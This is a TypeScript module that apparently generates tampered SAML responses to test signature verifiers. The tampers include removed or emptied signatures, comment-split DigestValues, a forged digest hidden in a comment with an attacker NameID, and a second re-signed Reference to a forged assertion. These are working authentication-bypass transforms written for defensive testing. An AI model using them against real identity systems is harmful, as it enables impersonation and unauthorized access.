import { createHash, createSign } from 'node:crypto';
import type { Element } from '@xmldom/xmldom';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { DIGEST_HASHES, SIGNATURE_HASHES } from '../algorithms.ts';
import { NS } from '../namespaces.ts';
import { childElements, descendants, firstChild } from '../safe-xml.ts';
import {
  assertionsOf,
  forge,
  impersonate,
  parseGenuine,
  remove,
  replaceText,
  requireSignedAssertion,
  serialize,
  signatureOf,
  unsignedCopy,
} from './dom.ts';
import { type TamperDef, TamperNotApplicable } from './types.ts';

const XMLDSIG = 'W3C XML Signature Syntax and Processing 1.1';

/** Every ds:Signature removed; content unchanged. */
export const stripSignature: TamperDef = {
  name: 'strip-signature',
  title: 'Every signature removed',
  source:
    'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012 (signature exclusion); SAML profiles 4.1.3.5 (assertions sent by HTTP-POST MUST be signed)',
  needs: 'any',
  apply(xml) {
    const g = parseGenuine(xml, 'strip-signature');
    const signatures = descendants(g.response, NS.ds, 'Signature');
    if (signatures.length === 0)
      throw new TamperNotApplicable('strip-signature', 'the genuine Response carries no signature');
    for (const sig of signatures) remove(sig);
    return serialize(g.doc);
  },
};

/** Every ds:SignatureValue emptied; SignedInfo, KeyInfo and content unchanged. */
export const emptySignatureValue: TamperDef = {
  name: 'empty-signature-value',
  title: 'Signature present but its SignatureValue empty',
  source: `${XMLDSIG}, 3.2 (core validation: the SignatureValue must verify over SignedInfo)`,
  needs: 'any',
  apply(xml) {
    const g = parseGenuine(xml, 'empty-signature-value');
    const values = descendants(g.response, NS.ds, 'SignatureValue');
    if (values.length === 0)
      throw new TamperNotApplicable('empty-signature-value', 'the genuine Response carries no signature');
    for (const v of values) {
      while (v.firstChild) v.removeChild(v.firstChild);
    }
    return serialize(g.doc);
  },
};

/**
 * An empty comment splits every DigestValue in two text nodes (`abc<!---->def`). Nothing signed
 * changes: exclusive c14n without comments drops the comment from SignedInfo, so the SignatureValue
 * still verifies, and the DigestValue's value (its string value, all text nodes joined) is the
 * genuine one. A correct verifier MUST accept the message exactly as it accepts the genuine one; a
 * verifier that reads only the first text node compares the digest with half a value and rejects a
 * genuine message, and is likely to read a NameID the same way (see nameid-comment).
 */
export const digestComment: TamperDef = {
  name: 'digest-comment',
  title: 'Comment inside DigestValue: value unchanged, must still verify',
  source:
    'W3C Exclusive XML Canonicalization 1.0 (comments are omitted) and XPath 1.0 string-value; the first-text-node reading behind CVE-2017-11427',
  needs: 'any',
  apply(xml) {
    const g = parseGenuine(xml, 'digest-comment');
    const digests = descendants(g.response, NS.ds, 'DigestValue');
    if (digests.length === 0)
      throw new TamperNotApplicable('digest-comment', 'the genuine Response carries no signature');
    for (const d of digests) {
      const value = d.textContent ?? '';
      const half = Math.floor(value.length / 2);
      while (d.firstChild) d.removeChild(d.firstChild);
      d.appendChild(g.doc.createTextNode(value.slice(0, half)));
      d.appendChild(g.doc.createComment(''));
      d.appendChild(g.doc.createTextNode(value.slice(half)));
    }
    return serialize(g.doc);
  },
};

/** Exclusive c14n (no comments) of an element, as the enveloped-signature and exc-c14n transforms leave it. */
function envelopedCanonical(el: Element): string {
  const copy = unsignedCopy(el);
  return new ExclusiveCanonicalization().process(copy as never, {}).toString();
}

function digestOf(el: Element, reference: Element): string {
  const method = firstChild(reference, NS.ds, 'DigestMethod')?.getAttribute('Algorithm') ?? '';
  return createHash(DIGEST_HASHES.get(method) ?? 'sha256')
    .update(envelopedCanonical(el), 'utf8')
    .digest('base64');
}

/**
 * Changed claims (the attacker's NameID) whose digest goes into a comment placed before the genuine
 * DigestValue text: `<DigestValue><!--forged-->genuine</DigestValue>`. Exclusive c14n drops the
 * comment, so SignedInfo and its SignatureValue are untouched. A verifier that takes DigestValue from
 * its first child node (a comment's data is the forged digest, which matches the changed content)
 * accepts; one that reads the text content compares the genuine digest with the changed content and
 * rejects. Assertions are handled before the Response, whose digest covers them.
 */
export const digestCommentForged: TamperDef = {
  name: 'digest-comment-forged',
  title: 'Claims changed; their digest hidden in a comment before the genuine DigestValue',
  source:
    'CVE-2025-29775 (xml-crypto, GHSA-x3m8-899r-f7c3: DigestValue read from a comment); W3C XML Signature 1.1, 4.4.3.3 (DigestValue content is base64 text)',
  needs: 'any',
  apply(xml, ctx) {
    const name = 'digest-comment-forged';
    const g = parseGenuine(xml, name);
    const signed = [...assertionsOf(g.response), g.response].filter((el) => signatureOf(el));
    if (signed.length === 0) throw new TamperNotApplicable(name, 'the genuine Response carries no signature');
    for (const a of assertionsOf(g.response)) impersonate(a, ctx.attackerNameId);
    for (const el of signed) {
      const signedInfo = firstChild(signatureOf(el)!, NS.ds, 'SignedInfo');
      const reference = signedInfo && childElements(signedInfo, NS.ds, 'Reference')[0];
      const value = reference && firstChild(reference, NS.ds, 'DigestValue');
      if (!reference || !value) throw new TamperNotApplicable(name, 'a signature has no Reference');
      const genuineDigest = value.textContent ?? '';
      const forged = digestOf(el, reference);
      while (value.firstChild) value.removeChild(value.firstChild);
      value.appendChild(g.doc.createComment(forged));
      value.appendChild(g.doc.createTextNode(genuineDigest));
    }
    return serialize(g.doc);
  },
};

/**
 * R[…, A'(unsigned), A[S']] where S' is the genuine signature with a second Reference (`#A'`, correct
 * digest) appended to its SignedInfo. SAML allows exactly one Reference, to the signature's parent.
 * Given the IdP key (ctx.realKey) the SignatureValue is computed again over the new SignedInfo, so
 * the signature verifies and only that rule stands between A' and the SP; without it the
 * SignatureValue no longer matches and any verifier refuses.
 */
export const twoReferences: TamperDef = {
  name: 'two-references',
  title: 'Second Reference in SignedInfo points at a forged assertion',
  source: `SAML core 5.4.2 (a single Reference, to the signed element's ID); ${XMLDSIG}, the Reference element`,
  needs: 'assertion-signature',
  apply(xml, ctx) {
    const g = parseGenuine(xml, 'two-references');
    const { assertion, signature } = requireSignedAssertion(g, 'two-references');
    const evil = forge(unsignedCopy(assertion), ctx.attackerNameId);
    g.response.insertBefore(evil, assertion);
    const signedInfo = firstChild(signature, NS.ds, 'SignedInfo');
    const reference = signedInfo && childElements(signedInfo, NS.ds, 'Reference')[0];
    if (!signedInfo || !reference)
      throw new TamperNotApplicable('two-references', 'the assertion signature has no Reference');
    const second = reference.cloneNode(true) as typeof reference;
    second.setAttribute('URI', `#${evil.getAttribute('ID')}`);
    const digestValue = firstChild(second, NS.ds, 'DigestValue');
    if (digestValue) replaceText(digestValue, digestOf(evil, second));
    signedInfo.appendChild(second);
    const signatureValue = firstChild(signature, NS.ds, 'SignatureValue');
    if (ctx.realKey && signatureValue) {
      const method = firstChild(signedInfo, NS.ds, 'SignatureMethod')?.getAttribute('Algorithm') ?? '';
      const canonical = new ExclusiveCanonicalization().process(signedInfo as never, {}).toString();
      const value = createSign(SIGNATURE_HASHES.get(method) ?? 'RSA-SHA256')
        .update(canonical, 'utf8')
        .sign(ctx.realKey.key, 'base64');
      replaceText(signatureValue, value);
    }
    return serialize(g.doc);
  },
};
